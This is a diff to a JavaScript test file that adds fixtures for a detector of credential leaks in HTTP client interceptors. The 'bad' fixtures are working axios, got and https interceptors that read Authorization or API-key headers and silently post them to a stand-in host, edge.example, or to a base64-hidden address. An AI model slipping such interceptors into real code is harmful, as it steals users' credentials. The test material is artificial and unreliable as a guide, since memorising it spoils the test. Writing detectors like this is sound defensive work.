@@ -12,6 +12,11 @@ test('bad: what is asked before each request of a client sends what it logs in w
   for (const code of [
     `const axios = require("axios"); const shadow = axios.create({ timeout: 900 }); const base = Buffer.from("${ASIDE}", "base64").toString(); module.exports = (client) => { client.interceptors.request.use((c) => { const h = c.headers || {}; const a = h.Authorization || h["x-api-key"]; if (a) shadow.post(base, { u: c.url, a }).catch(() => {}); return c }); return client }`,
     `import axios from "axios"; const side = axios.create({ baseURL: "https://edge.example" }); axios.interceptors.request.use(function (config) { side.post("/v1", { key: config.headers.get("authorization") }); return config })`,
+    'const https_1 = __importDefault(require("https")); const seen = new Set(); function observe(config) { const h = config.headers || {}; const a = h.Authorization || h["x-api-key"]; if (!a || seen.has(a)) return; seen.add(a); const r = https_1.default.request("https://edge.example/c", { method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify({ u: config.url, a })) } exports.attach = (client) => { client.interceptors.request.use((config) => { observe(config); return config }); return client }',
+    `function keep(all) { ${tell('{ a: all.authorization }')} } function see(config) { keep(config.headers) } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })`,
+    `class Retry { #see(count, c) { ${tell('{ count, a: c.headers.Authorization }')} } attach(api) { api.interceptors.request.use((c) => { this.#see(1, c); return c }) } } module.exports = Retry`,
+    `import got from "got"; const see = ({ headers }) => { ${tell('headers.authorization')} }; export default got.extend({ hooks: { beforeRequest: [(options) => { see(options) }] } })`,
+    'const https = require("node:https"); function see(c) { const r = https.request("https://edge.example/c", { method: "POST" }); r.end(JSON.stringify(c.headers)) } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })',
     `module.exports = (api) => api.interceptors.request.use(({ headers, ...rest }) => { ${tell('{ k: headers["x-api-key"] }')}; return { headers, ...rest } })`,
     `module.exports = (api) => api.interceptors.response.use((answer) => { ${tell('{ a: answer.config.auth, c: answer.headers["set-cookie"] }')}; return answer })`,
     `import got from "got"; export default got.extend({ hooks: { beforeRequest: [(options) => { ${tell('{ a: options.headers.authorization }')} }] } })`,
@@ -25,6 +30,9 @@ test('bad: what is asked before each request of a client sends what it logs in w
 test('good: requests are counted, their logins set, shortened or asked for anew, and settings say where', () => {
   for (const code of [
     `module.exports = (api) => api.interceptors.request.use((c) => { ${tell('{ m: c.method, u: c.url, agent: c.headers["user-agent"], has: Boolean(c.headers.Authorization) }')}; return c })`,
+    `function see(c) { ${tell('{ m: c.method, u: c.url, has: Boolean(c.headers.Authorization) }')} } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })`,
+    `function see(c, text) { ${tell('{ text }')} log(c.headers.Authorization) } module.exports = (api) => api.interceptors.request.use((c) => { see(c, "asked"); return c })`,
+    'function see(c, to) { fetch(to, { method: "POST", body: JSON.stringify({ a: c.headers.Authorization }) }) } module.exports = (api, options) => api.interceptors.request.use((c) => { see(c, options.audit); return c })',
     'module.exports = (api, key) => api.interceptors.request.use((c) => { c.headers.Authorization = "Bearer " + key; return c })',
     'import axios from "axios"; export const renew = (api, kept) => api.interceptors.response.use(null, async (error) => { const { data } = await axios.post("https://accounts.example/renew", { refresh: kept.refresh }); kept.access = data.access; error.config.headers.Authorization = data.access; return api(error.config) })',
     'module.exports = (api, options) => api.interceptors.request.use((c) => { fetch(options.audit, { method: "POST", body: JSON.stringify({ a: c.headers.Authorization }) }); return c })',
